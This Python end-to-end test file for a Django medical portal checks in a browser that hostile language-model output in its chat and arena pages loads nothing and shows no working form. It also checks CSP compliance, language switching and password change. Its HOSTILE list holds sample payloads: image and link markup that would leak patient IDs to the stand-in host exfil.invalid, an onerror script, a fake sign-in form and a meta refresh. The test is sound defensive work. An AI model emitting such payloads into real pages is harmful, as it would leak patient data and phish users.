"""In Chromium: hostile model output loads nothing and shows no working form (chat and arena);
no page logs a Content-Security-Policy violation and the pages still work (charts, htmx,
forms, API docs); the login page switches language; a user changes their password.

Daphne serves HTTP, static files and the sockets (``asgi_server``). Set
MEDPORTAL_SCREENSHOTS=<dir> to keep screenshots of the pages.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from tests.training.conftest import demo_model_dir  # noqa: F401  (session fixture)

from .conftest import login

pytestmark = [pytest.mark.e2e, pytest.mark.django_db(transaction=True)]

OUTSIDE = "exfil.invalid"
HOSTILE = [
    "**Answer** with a list:\n\n- one\n- two\n\n![x-ray](http://exfil.invalid/leak.png?d=PATIENT-4711)",
    '<img src="http://exfil.invalid/img.png?d=2"> and <img src=x onerror="window.__pwned=1">',
    '<form action="http://exfil.invalid/steal" method="post"><p>Session expired, sign in again:</p>'
    '<input type="password" name="pw"><button>Sign in</button></form>',
    '<iframe src="http://exfil.invalid/frame"></iframe><svg><image href="http://exfil.invalid/svg.png"/></svg>'
    '<style>body { background: url(http://exfil.invalid/css.png) }</style>',
    '<link rel="stylesheet" href="http://exfil.invalid/x.css"><video src="http://exfil.invalid/v.mp4" autoplay></video>'
    '<object data="http://exfil.invalid/o.swf"></object><meta http-equiv="refresh" content="0;url=http://exfil.invalid/">',
    "See [the guideline](http://exfil.invalid/page), <a href=\"javascript:window.__pwned=3\">this</a> and <https://exfil.invalid/auto>.",
]
FORBIDDEN = "img, form, input, button, iframe, svg, style, link, video, object, meta, script, textarea, select"


def _shot(page, name: str) -> None:
    folder = os.environ.get("MEDPORTAL_SCREENSHOTS")
    if folder:
        Path(folder).mkdir(parents=True, exist_ok=True)
        page.screenshot(path=str(Path(folder) / f"{name}.png"), full_page=True)


class Watch:
    """Every request the page makes, and every CSP violation or script error it logs."""

    def __init__(self, page, server_url: str):
        self.server_url = server_url
        self.requests: list[str] = []
        self.violations: list[str] = []
        page.on("request", lambda r: self.requests.append(r.url))
        page.on("console", lambda m: self.violations.append(m.text) if "Content Security Policy" in m.text else None)
        page.on("pageerror", lambda e: self.violations.append(f"page error: {e}"))

    @property
    def outside(self) -> list[str]:
        return [u for u in self.requests if not u.startswith((self.server_url, "data:", "blob:"))]


def _models(admin_user, path):
    from training.models import BaseModel

    a = BaseModel.objects.create(name="demo-a", path=str(path), has_chat_template=True, registered_by=admin_user)
    b = BaseModel.objects.create(name="demo-b", path=str(path), has_chat_template=True, registered_by=admin_user)
    return a, b


def _assert_inert(page, container: str) -> None:
    assert page.locator(f"{container} strong").count() >= 1  # markdown still renders
    assert page.locator(f"{container} li").count() >= 2
    found = page.evaluate(f"(sel) => [...document.querySelectorAll(sel)].map(e => e.outerHTML)", f"{container} :is({FORBIDDEN})")
    assert found == []
    links = page.evaluate(
        """(sel) => [...document.querySelectorAll(sel)].map(a => ({href: a.getAttribute('href'), target: a.target, rel: a.rel, cls: a.className}))""",
        f"{container} a",
    )
    assert any(link["href"] == "http://exfil.invalid/leak.png?d=PATIENT-4711" for link in links)  # the image, as a link
    for link in links:
        assert link["href"] is None or link["href"].startswith(("http://", "https://"))
        if link["href"]:
            assert link["target"] == "_blank" and link["rel"] == "noopener noreferrer nofollow" and link["cls"] == "external-link"
    assert page.evaluate("() => window.__pwned") is None


def test_hostile_model_output_loads_nothing_and_shows_no_form(browser, asgi_server, admin_user, clinician, demo_model_dir):  # noqa: F811
    from chat.models import ArenaBattle
    from chat.services import arena_battle_create, chat_assistant_message, chat_session_create, chat_user_message

    model_a, model_b = _models(admin_user, demo_model_dir)
    session = chat_session_create(user=clinician, base_model=model_a)
    for payload in HOSTILE:
        chat_user_message(session=session, user=clinician, content="question")
        chat_assistant_message(session=session, content=payload, params={}, stats={})
    battle = arena_battle_create(user=clinician, prompt="question", contestant_a=(model_a, None), contestant_b=(model_b, None))
    ArenaBattle.objects.filter(pk=battle.pk).update(answer_a="\n\n".join(HOSTILE), answer_b="\n\n".join(reversed(HOSTILE)))

    ctx = browser.new_context(locale="en-US", viewport={"width": 1400, "height": 1000})
    ctx.set_default_timeout(20_000)
    page = ctx.new_page()
    watch = Watch(page, asgi_server.url)
    login(page, asgi_server, "clinician", "pw-clinician")

    page.goto(f"{asgi_server.url}/chat/{session.pk}/")
    page.wait_for_selector(".chat-assistant strong")
    page.wait_for_load_state("networkidle")
    _assert_inert(page, "#chat-log .chat-markdown")
    _shot(page, "chat-hostile-output")

    page.goto(f"{asgi_server.url}/chat/arena/{battle.pk}/")
    page.wait_for_selector("#answer-a strong")
    page.wait_for_selector("#answer-b strong")
    page.wait_for_load_state("networkidle")
    _assert_inert(page, "#answer-a")
    _assert_inert(page, "#answer-b")
    _shot(page, "arena-hostile-output")

    assert watch.outside == []
    assert not any(OUTSIDE in u for u in watch.requests)
    assert watch.violations == []  # nothing even tried: the policy is the second line, not the first
    ctx.close()


def _pages(asgi_server, admin_user, clinician, curator, make_pair, demo_model_dir):  # noqa: F811
    from chat.services import arena_battle_create, chat_session_create
    from tests.training.eval_factories import make_eval_pair

    pair = make_pair(curator)
    base_run, tuned_run, job = make_eval_pair(admin_user, curator, make_pair)
    model_a, model_b = _models(admin_user, demo_model_dir)
    session = chat_session_create(user=admin_user, base_model=model_a)
    battle = arena_battle_create(user=admin_user, prompt="question", contestant_a=(model_a, None), contestant_b=(model_b, None))
    return {
        "home": "/",
        "pair-list": "/curation/pairs/",
        "pair-detail": f"/curation/pairs/{pair.pk}/",
        "review-queue": "/curation/review/",
        "imports": "/curation/imports/",
        "versions": "/curation/versions/",
        "jobs": "/training/jobs/",
        "job-new": "/training/jobs/new/",
        "job-detail": f"/training/jobs/{job.pk}/",
        "models": "/training/models/",
        "evaluations": "/training/evaluations/",
        "evaluation-new": "/training/evaluations/new/",
        "evaluation-report": f"/training/evaluations/{tuned_run.pk}/",
        "chat": "/chat/",
        "chat-session": f"/chat/{session.pk}/",
        "arena": "/chat/arena/",
        "arena-battle": f"/chat/arena/{battle.pk}/",
        "leaderboard": "/chat/arena/leaderboard/",
        "audit": "/audit/",
        "password": "/accounts/password/",
        "admin": "/admin/",
        "admin-users": "/admin/auth/user/",
        "api-browsable": "/api/v1/pairs/",
        "api-docs": "/api/v1/docs/",
        "api-redoc": "/api/v1/redoc/",
    }


def test_no_page_logs_a_content_security_policy_violation(browser, asgi_server, admin_user, clinician, curator, make_pair, demo_model_dir):  # noqa: F811
    admin_user.is_staff = admin_user.is_superuser = True
    admin_user.save()
    pages = _pages(asgi_server, admin_user, clinician, curator, make_pair, demo_model_dir)
    ctx = browser.new_context(locale="en-US", viewport={"width": 1400, "height": 1000})
    ctx.set_default_timeout(20_000)
    page = ctx.new_page()
    watch = Watch(page, asgi_server.url)
    login(page, asgi_server, "boss", "pw-boss")
    seen = {}
    for name, url in pages.items():
        before = len(watch.violations)
        response = page.goto(asgi_server.url + url)
        assert response.status == 200, (name, response.status)
        if name == "api-docs":
            page.wait_for_selector(".swagger-ui .opblock", timeout=30_000)  # Swagger UI rendered the schema
        elif name == "api-redoc":
            page.wait_for_selector("#redoc-container h1", timeout=30_000)  # ReDoc rendered the schema
        elif name == "evaluation-report":
            assert page.wait_for_function("() => window.Chart && window.Chart.getChart(document.getElementById('metrics-chart'))")
        elif name == "chat-session":
            page.wait_for_selector("#socket-state.text-bg-success")  # the socket opened (connect-src ws://)
        page.wait_for_load_state("networkidle")
        assert page.evaluate("() => typeof window.htmx") == "object" or name.startswith(("admin", "api")), name
        seen[name] = watch.violations[before:]
        if name in ("api-docs", "api-redoc"):
            assert page.locator("#back-to-app").get_attribute("href") == "/"
            _shot(page, name)
    assert {name: v for name, v in seen.items() if v} == {}
    assert watch.outside == []

    # htmx still works under the policy: the job form's estimate is fetched on change.
    page.goto(asgi_server.url + "/training/jobs/new/")
    page.wait_for_load_state("networkidle")
    page.locator("form[hx-get] select").first.dispatch_event("change")
    page.wait_for_function("() => performance.getEntriesByType('resource').some(e => e.name.includes('/training/jobs/new/estimate'))")
    # A data-autosubmit select (the language switch, bound by app.js) still submits its form.
    page.goto(asgi_server.url + "/")
    page.select_option("#language-form select", "zh-hans")
    page.wait_for_selector("html[lang=zh-hans]")
    assert watch.violations == []
    ctx.close()


def test_login_switches_language_and_a_user_changes_their_password(browser, asgi_server, clinician):
    from medportal.models import AuditEvent

    ctx = browser.new_context(locale="zh-CN", viewport={"width": 1200, "height": 800})
    ctx.set_default_timeout(15_000)
    page = ctx.new_page()
    watch = Watch(page, asgi_server.url)
    page.goto(f"{asgi_server.url}/accounts/login/")
    assert page.locator("h1").inner_text() == "登录"
    assert page.evaluate("() => document.querySelector('link[rel=icon]').href").endswith(".ico")
    _shot(page, "login-zh-hans")
    page.select_option("#language-form select", "en")  # app.js submits the form
    page.wait_for_selector("html[lang=en]")
    assert page.locator("h1").inner_text() == "Log in"
    _shot(page, "login-en")

    page.fill("#id_username", "clinician")
    page.fill("#id_password", "pw-clinician")
    page.click("main button[type=submit]")
    page.wait_for_url(f"{asgi_server.url}/")
    page.click("#user-menu button")
    page.click("#password-change-link")
    page.wait_for_selector("#password-change-form")
    page.fill("#id_old_password", "pw-clinician")
    page.fill("#id_new_password1", "short")
    page.fill("#id_new_password2", "short")
    page.click("#password-change-form button[type=submit]")
    assert page.locator(".invalid-feedback").count() >= 1  # the validators' messages, on the field
    _shot(page, "password-change-refused")
    page.fill("#id_old_password", "pw-clinician")
    page.fill("#id_new_password1", "Kidney-stone-2026!")
    page.fill("#id_new_password2", "Kidney-stone-2026!")
    page.click("#password-change-form button[type=submit]")
    page.wait_for_selector("#password-changed")
    _shot(page, "password-changed")
    clinician.refresh_from_db()
    assert clinician.check_password("Kidney-stone-2026!")
    assert AuditEvent.objects.filter(action="auth.password_changed", actor=clinician).count() == 1
    assert watch.violations == [] and watch.outside == []
    ctx.close()
